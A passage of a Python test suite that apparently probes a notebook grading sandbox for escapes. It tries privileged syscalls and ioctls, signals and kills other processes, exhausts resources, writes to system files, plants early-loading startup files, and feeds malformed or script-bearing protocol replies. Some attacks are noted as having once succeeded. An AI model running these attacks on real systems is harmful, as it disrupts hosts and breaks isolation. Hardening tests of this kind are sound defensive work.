for what, number, arguments in (("io_uring", 425, (8, ctypes.create_string_buffer(120))), ("userfaultfd", 323, (1,)), ("bpf", 321, (0, ctypes.create_string_buffer(128), 128)), ("perf", 298, (ctypes.create_string_buffer(112), 0, -1, -1, 0)), ("memfd_secret", 447, (0,)), ("aio", 206, (8, ctypes.create_string_buffer(8))), ("fanotify", 300, (0, 0)), ("keyctl", 250, (0, -3, 1)), ("add_key", 248, (b"user", b"a", b"b", 1, -2)), ("request_key", 249, (b"user", b"a", None, -2)), ("quotactl", 179, (0x800004, b"/dev/vda", 0, ctypes.create_string_buffer(64))), ("syslog", 103, (3, ctypes.create_string_buffer(64), 64)), ("modify_ldt", 154, (0, ctypes.create_string_buffer(64), 64)), ("iopl", 172, (3,)), ("ioperm", 173, (128, 8, 1)), ("swapon", 167, (b"swap", 0)), ("acct", 163, (b"acct",)), ("settimeofday", 164, (ctypes.create_string_buffer(16), None)), ("adjtimex", 159, (ctypes.create_string_buffer(208),)), ("clock_adjtime", 305, (0, ctypes.create_string_buffer(208))), ("init_module", 175, (b"", 0, b"")), ("finit_module", 313, (0, b"", 0)), ("kexec", 246, (0, 0, 0, 0)), ("reboot", 169, (0xFEE1DEAD, 672274793, 0, 0)), ("vhangup", 153, ()), ("sync", 162, ()), ("syncfs", 306, (1,)), ("mbind", 237, (0, 0, 0, 0, 0, 0)), ("move_pages", 279, (0, 0, 0, 0, 0, 0)), ("kcmp", 312, (1, 1, 0, 0, 0)), ("process_madvise", 440, (0, 0, 0, 0, 0)), ("landlock", 444, (0, 0, 1)), ("mq_open", 240, (b"sg", 0o102, 0o600, None)), ("vmsplice", 278, (0, None, 0, 0)), ("remap_file_pages", 216, (0, 0, 0, 0, 0)), ("uselib", 134, (b"",)), ("ustat", 136, (1, ctypes.create_string_buffer(64))), ("sysfs", 139, (3,)), ("nfsservctl", 180, (0, 0, 0)), ("lookup_dcookie", 212, (1, ctypes.create_string_buffer(64), 64)), ("cachestat", 451, (0, 0, 0, 0)), ("map_shadow_stack", 453, (0, 4096, 0)), ("lsm_list_modules", 461, (ctypes.create_string_buffer(64), ctypes.create_string_buffer(8), 0)), ("mseal", 462, (0, 0, 0))):
    attempt(what, lambda: in_child(lambda: sc(number, *arguments)))
""",
    ),
    wall(
        "sends_ioctls",
        """
import pty, fcntl
own, other = pty.openpty()
for what, request in (("type for another", 0x5412), ("console", 0x541C), ("console takes output", 0x541D), ("steal", 0x540E)):
    for number in (0, 1, 2):
        attempt(f"{what} {number}", lambda: fcntl.ioctl(number, request, b"x" * 64) and True)
for path in ("/usr", "/kaggle/working", "/usr/bin/env", "/tmp"):
    fd = os.open(path, os.O_RDONLY)
    for what, request in (("freeze", 0xC0045877), ("thaw", 0xC0045878), ("trim", 0xC0185879), ("immutable", 0x40086602), ("map", 1), ("key", 0xC0506617), ("defragment", 0xC020660F), ("verity", 0x40806685)):
        attempt(f"{what} {path}", lambda: fcntl.ioctl(fd, request, struct.pack("=Q", 0x10) + bytes(120)) and True)
attempt("console of the machine", lambda: os.open("/dev/console", os.O_RDWR))
attempt("terminal of the grader", lambda: os.open("/dev/tty", os.O_RDWR))
""",
    ),
    wall(
        "signals_by_every_door",
        "for pid in (1, *others()):\n    for number in (9, 15, 19, 2, 1, 3, 6, 11, 13, 14, 24, 25):\n        os.kill(pid, number); sc(200, pid, number); sc(234, pid, pid, number)\n    attempt('pidfd', lambda: sc(434, pid, 0))\nattempt('is it gone', lambda: None if os.path.exists('/proc/1') else True)\nimport fcntl\na, b = socket.socketpair(); attempt('owner of its signals', lambda: fcntl.fcntl(a, fcntl.F_SETOWN, 1) and True)\nattempt('which signal', lambda: fcntl.fcntl(a, 10, 9) and True)\nfcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC)\nb.send(b'x')\ntime.sleep(0.05)\nattempt('is it gone now', lambda: None if os.path.exists('/proc/1') else True)",
    ),
    wall(
        "leases_files_of_the_machine",
        "import fcntl\nfor path in ('/etc/localtime', '/opt/springfield/agent.py'):\n    if os.path.exists(path) and os.stat(path).st_uid != os.getuid():\n        attempt(path, lambda: fcntl.fcntl(os.open(path, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK) or True)\n",
    ),
]

RESOURCES = [
    wall(
        "raises_its_limits",
        "for limit in (resource.RLIMIT_DATA, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_CORE):\n    hard = resource.getrlimit(limit)[1]\n    for value in ((-1, -1), (hard + 1, hard + 1)):\n        attempt(f'setrlimit {limit}', lambda: resource.setrlimit(limit, value) or True)\n        attempt(f'prlimit {limit}', lambda: resource.prlimit(os.getpid(), limit, value) and True)\n        attempt(f'in a child {limit}', lambda: in_child(lambda: resource.setrlimit(limit, value) or True))\nattempt('less likely to be killed', lambda: writes('/proc/self/oom_score_adj', b'-900'))\nattempt('in real time', lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or True)\nattempt('deadline', lambda: sc(314, 0, ctypes.create_string_buffer(struct.pack('=IIQiIQQQ', 48, 6, 0, 0, 0, 10**7, 10**8, 10**8)), 0))\nattempt('real-time disk', lambda: sc(251, 1, 0, 1 << 13))\nattempt('nice', lambda: os.setpriority(0, 0, -1) or True)",
    ),
    wall(
        "makes_more_files_than_allowed",
        "made = 0\nos.mkdir('/home/student/many')\ntry:\n    while made < 40000: os.symlink('x', f'/home/student/many/{made}'); made += 1\nexcept OSError as error: print('stopped', error.errno, made)\nattempt('links', lambda: made if made >= 40000 else None)\nimport shutil; shutil.rmtree('/home/student/many')",
    ),
    wall(
        "makes_links_without_end",
        "open('/dev/shm/one', 'w').close(); made = 0\ntry:\n    while made < 40000: os.link('/dev/shm/one', f'/dev/shm/{made}'); made += 1\nexcept OSError as error: print('stopped', error.errno, made)\nattempt('hard links', lambda: made if made >= 40000 else None)\nfor n in range(made): os.remove(f'/dev/shm/{n}')",
    ),
    wall(
        "hides_data_in_attributes",
        "made = 0\nopen('/home/student/a', 'w').close()\ntry:\n    while made < 3000: os.setxattr('/home/student/a', f'user.{made}', bytes(60000)); made += 1\nexcept OSError as error: print('stopped', error.errno, made)\nattempt('180 MB beside a folder of 64', lambda: made if made >= 3000 else None)\nos.remove('/home/student/a')",
    ),
    wall(
        "makes_terminals_without_end",
        "kept = []\ntry:\n    while len(kept) < 300: kept.append(os.openpty())\nexcept OSError as error: print('stopped', error, len(kept))\nattempt('terminals', lambda: len(kept) if len(kept) >= 300 else None)\nfor pair in kept:\n    for number in pair: os.close(number)",
    ),
    wall(
        "gives_a_file_more_room_than_there_is",
        "for make in (lambda f: os.posix_fallocate(f, 0, 200 << 20), lambda f: os.truncate(f, 1 << 40), lambda f: os.pwrite(f, b'x', 1 << 40)):\n    fd = os.open('/home/student/big', os.O_CREAT | os.O_RDWR)\n    attempt('file', lambda: make(fd) or True)\n    os.close(fd); os.remove('/home/student/big')\nmemory = os.memfd_create('m')\nattempt('memory file', lambda: os.ftruncate(memory, 1 << 40) or True)\nattempt('huge pages', lambda: os.pwrite(os.memfd_create('h', os.MFD_HUGETLB), b'x', 0))",
    ),
    wall(
        "makes_names_and_folders_too_long",
        "attempt('name', lambda: open('n' * 256, 'w'))\nattempt('path', lambda: os.makedirs('/tmp/' + 'n/' * 3000))\nhere = os.open('/home/student', os.O_RDONLY)\nfor _ in range(3000):\n    os.mkdir('n' * 100, dir_fd=here); new = os.open('n' * 100, os.O_RDONLY, dir_fd=here); os.close(here); here = new\nos.close(here)",
        within_s=60,
    ),
    wall(
        "makes_pipes_without_end",
        "import fcntl\nkept = []\ntry:\n    while len(kept) < 4000: kept.append(os.pipe())\nexcept OSError as error: print('stopped', error.errno, len(kept))\nattempt('pipes', lambda: len(kept) if len(kept) >= 4000 else None)\nfor pair in kept:\n    for number in pair: os.close(number)\na, b = os.pipe()\nattempt('huge pipe', lambda: fcntl.fcntl(a, 1031, 1 << 30))",
    ),
    wall(
        "maps_memory_that_is_not_there",
        "import mmap\nattempt('private', lambda: len(mmap.mmap(-1, 1 << 42, flags=mmap.MAP_PRIVATE)))\nattempt('locked', lambda: libc.mlock(ctypes.create_string_buffer(256 << 20), ctypes.c_size_t(256 << 20)) == 0 and resource.getrlimit(resource.RLIMIT_MEMLOCK)[0] in range(0, 255 << 20) or None)\nattempt('page zero', lambda: None if libc.mmap(None, 4096, 3, 0x32, -1, 0) not in (0,) else True)",
    ),
    wall(
        "queues_signals_without_end",
        "made = 0\nsignal.pthread_sigmask(signal.SIG_BLOCK, [40])\ninfo = ctypes.create_string_buffer(struct.pack('=iii', 40, 0, -1) + bytes(116))\nwhile made < 300000 and sc(297, os.getpid(), threading.get_native_id(), 40, info) is not None: made += 1\nprint('queued', made)\nattempt('signals', lambda: made if made >= 300000 else None)",
        within_s=60,
    ),
    wall(
        "writes_into_the_systems_files",
        "for path in ('/usr/bin/env', torch.__file__, '/opt/springfield/agent.py', '/etc/localtime', '/dev', '/usr/share', sys.prefix):\n    for change in (lambda: os.chmod(path, 0o777), lambda: os.utime(path), lambda: os.setxattr(path, 'user.x', b'x'), lambda: os.truncate(path, 0), lambda: os.rename(path, path + '2'), lambda: os.open(path, os.O_RDWR), lambda: os.open(path, os.O_TMPFILE | os.O_RDWR), lambda: os.link(path, '/tmp/l')):\n        attempt(path, lambda: change() or True)\nfd = os.open('/usr/bin/env', os.O_RDONLY)\nimport mmap\nattempt('shared writable map', lambda: mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_WRITE))\nattempt('through its descriptor', lambda: os.open(f'/proc/self/fd/{fd}', os.O_RDWR))\nattempt('splice into it', lambda: os.splice(os.pipe()[0], fd, 1, flags=1))\nattempt('fchmod', lambda: os.fchmod(fd, 0o777) or True)",
    ),
]

EARLY = b"import builtins\nbuiltins.sg_walls_early = 'GAI' + 'NED'\nprint(builtins.sg_walls_early)\n"
LOADED = "import builtins\nattempt('loaded early', lambda: getattr(builtins, 'sg_walls_early', None))\n"


def handing_in(name: str, *names: str, code: str = LOADED, data: bytes = EARLY) -> Attack:
    """Files beside the notebook that something might load before the notebook begins."""
    return wall(f"hands_in_{name}", code, files=dict.fromkeys(names, data))


START = [
    handing_in(
        "start_files_of_python",
        "sitecustomize.py",
        "usercustomize.py",
        "sg.pth",
        "__main__.py",
        "__init__.py",
        "pyvenv.cfg",
        "python311._pth",
        "conftest.py",
        "pythonstartup.py",
    ),
    handing_in(
        "modules_of_the_kernel",
        "ipykernel.py",
        "IPython.py",
        "zmq.py",
        "tornado.py",
        "traitlets.py",
        "jupyter_client.py",
        "matplotlib_inline.py",
        "debugpy.py",
        "comm.py",
        "psutil.py",
        "nest_asyncio.py",
    ),
    handing_in(
        "modules_that_start_late",
        "json.py",
        "struct.py",
        "pickle.py",
        "sqlite3.py",
        "asttokens.py",
        "executing.py",
        "pure_eval.py",
        "stack_data.py",
        "encodings.py",
        "confinement.py",
        "agent.py",
        "agent_modules.py",
        "agent_server.py",
        "agent_wire.py",
        "ipython_kernel.py",
        "zygote.py",
        "cuda_on_cpu.py",
    ),
    handing_in(
        "settings_of_ipython",
        "ipython_config.py",
        "ipython_kernel_config.py",
        "jupyter_config.py",
        ".ipython/profile_default/startup/00.py",
        "profile_default/startup/00.py",
        "profile_default/ipython_config.py",
        ".jupyter/jupyter_config.py",
        "kernel.json",
    ),
    handing_in(
        "settings_of_libraries",
        "matplotlibrc",
        ".matplotlib/matplotlibrc",
        "pip.conf",
        "setup.cfg",
        "pytest.ini",
        ".pdbrc",
        ".pythonrc",
        "numpy-site.cfg",
        "torch.toml",
        data=b"backend: module://sg\n",
    ),
    handing_in(
        "the_data_sets_name", "train", "testset", "sample_submission.csv.py", ".springfield", "submission.csv.lnk"
    ),
    wall(
        "hands_in_links_and_times",
        "attempt('escaped', lambda: [p for p in ('/tmp/sg-out', '/home/student/sg-out', '/run/kernel/sg-out', '/usr/sg-out') if os.path.exists(p)] or None)",
        files={"ok.txt": b"x", "deep/er/and/deeper/x.txt": b"x"},
    ),
]

LINE = """
H = struct.Struct(">QQQ")
line = get_ipython().kernel.springfield_line
def put(number, content, data=b""):
    import json
    text = json.dumps(content).encode()
    line.connection.sendall(H.pack(number, len(text), len(data)) + text + data)
answer = line.agent.answer
"""


def speaking(name: str, change: str, **more: object) -> Attack:
    """The agent of the notebook says something else."""
    code = (
        LINE
        + "def changed(request, data):\n"
        + "\n".join(f"    {row}" for row in change.strip().splitlines())
        + "\nline.agent.answer = changed\n"
    )
    return wall(f"line_{name}", code, **{"earns": (), **more})


SPEAKING = [
    speaking(
        "answers_what_was_not_asked",
        "for n in (0, 1, 2**63, line.under_way + 1, line.under_way - 1): put(n, {'status': 'ok', 'value': True, 'sizes': []})\nreturn answer(request, data)",
    ),
    speaking(
        "asks_where_nothing_can_be_asked",
        "put(line.under_way, {'status': 'asks', 'function': 0, 'args': [1.0]})\nreturn answer(request, data)",
    ),
    speaking(
        "asks_with_another_number",
        "put(line.under_way + 7, {'status': 'asks', 'function': 0, 'args': [1.0]})\nreturn answer(request, data)",
        earns=None,
    ),
    speaking(
        "says_numbers_that_are_none",
        "import json\ntext, data = answer(request, data)\ntold = json.loads(text)\ntold['call'] = float('nan'); told['drew'] = 'yes'; told['value'] = float('inf')\nreturn json.dumps(told).encode(), data",
    ),
    speaking(
        "says_huge_sizes",
        "import json\nreturn json.dumps({'status': 'ok', 'sizes': [2**62, -2**62], 'value': {'t': 'tensor', 'buffer': 0, 'dtype': 'float32', 'shape': [2**40, 2**40], 'grad': True}}).encode(), b''",
    ),
    speaking(
        "says_inputs_of_another_kind",
        "import json\ntext, data = answer(request, data)\ntold = json.loads(text)\ntold['inputs'] = [{'t': 'tensor', 'buffer': 0, 'dtype': 'int64', 'shape': [0, 2**39], 'grad': False}] * 3\nreturn json.dumps(told).encode(), data",
    ),
    speaking(
        "says_nothing_of_inputs",
        "import json\ntext, data = answer(request, data)\ntold = json.loads(text)\ntold.pop('inputs', None); told.pop('owners', None)\nreturn json.dumps(told).encode(), data",
    ),
    speaking("says_what_is_no_json", "return b'[' * 100000 + b'\\xff' * 1000, b''"),
    speaking(
        "says_a_number_of_a_million_digits",
        "return b'{\"status\": \"ok\", \"sizes\": [], \"value\": ' + b'9' * 1000000 + b'}', b''",
    ),
    speaking(
        "claims_a_huge_head",
        "line.connection.sendall(H.pack(line.under_way, 2**63, 2**63))\nreturn answer(request, data)",
    ),
    speaking("hangs_up", "line.connection.shutdown(2)\nreturn answer(request, data)"),
    speaking(
        "names_strange_errors",
        "import json\nreturn json.dumps({'status': 'error', 'ename': ['x'] * 1000, 'evalue': {'a': '\\x1b[2J'}, 'traceback': {'x': 1}}).encode(), b''",
    ),
    speaking(
        "names_secrets_of_its_own",
        "import json\nreturn json.dumps({'status': 'error', 'ename': 'E', 'evalue': '\\u202e\\x1b]0;x\\x07<script>alert(1)</script>', 'traceback': ['</pre><b>'] * 100000}).encode(), b''",
    ),
]

# Succeeded when they were written; each hole is closed since.
SUCCEEDED_ONCE: list[Attack] = [
    wall(
        "leaves_zombies_with_dead_leaders",
        """
left = [p for p in others() if p != 1 and open(f"/proc/{p}/comm").read().startswith("sg-left")]
attempt("left by the one before", lambda: left or None)
for number in range(60):
    if os.fork() == 0:
        os.setsid(); libc.prctl(15, b"sg-left-%03d" % number, 0, 0, 0)
        threading.Thread(target=time.sleep, args=(1000,)).start()
        libc.syscall(60, 0)
time.sleep(0.2)
""",
    ),
    wall(
        "limits_the_zygote",
        "for limit in range(16):\n    attempt(f'limit {limit} of 1', lambda: resource.prlimit(1, limit, resource.prlimit(1, limit)) and True)\n",
    ),
    wall(
        "watches_the_machines_files",
        "watch = libc.inotify_init1(0o4000)\nfor path in (b'/usr/bin', b'/opt/springfield', sys.prefix.encode()):\n    attempt(path, lambda: True if libc.inotify_add_watch(watch, path, 0x20) >= 0 else None)\nimport fcntl\nattempt('notify', lambda: fcntl.fcntl(os.open('/usr/bin', os.O_RDONLY), 1026, 0x80000001) or True)",
    ),
    wall(
        "kills_who_reads_its_results",
        """
if os.fork() == 0:
    own = {1, os.getpid(), os.getppid()}
    while True:
        for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
            if pid not in own: os.kill(pid, 9)
""",
        earns=(),  # a child that never rests takes the time of the cells that follow
    ),
    wall(
        "swaps_folders_with_pipes",
        """
for number in range(50): os.mkdir(f"d{number}"); os.mkfifo(f"f{number}")
if os.fork() == 0:
    while True:
        for number in range(50): libc.renameat2(-100, b"d%d" % number, -100, b"f%d" % number, 2)
""",
        earns=(),  # its child never rests; see also a contest that leaves no submission.csv: the grader then walks the folder
    ),
    speaking(
        "floods_with_answers_to_nothing",
        "if os.fork() == 0:\n    line.connection.setblocking(True)\n    spam = (H.pack(999, 2, 0) + b'{}') * 40000\n    while True: line.connection.sendall(spam)\ntime.sleep(1000)",
        within_s=60,
    ),
    speaking(
        "adds_a_dict_of_keys_that_collide",
        "import json\nkeys = [[{'t': 'int', 'v': str((2**61 - 1) * k)}, 0] for k in range(1, 24000)]\nreturn json.dumps({'status': 'ok', 'sizes': [], 'value': {'t': 'dict', 'v': keys}, 'owners': [], 'inputs': [], 'drew': False}).encode(), b''",
    ),
]

WALLS: list[Attack] = [
    *IDENTITY,
    *VIEW,
    *FRESH,
    *CHANNELS,
    *CALLS_REFUSED,
    *RESOURCES,
    *START,
    *SPEAKING,
    *SUCCEEDED_ONCE,
]
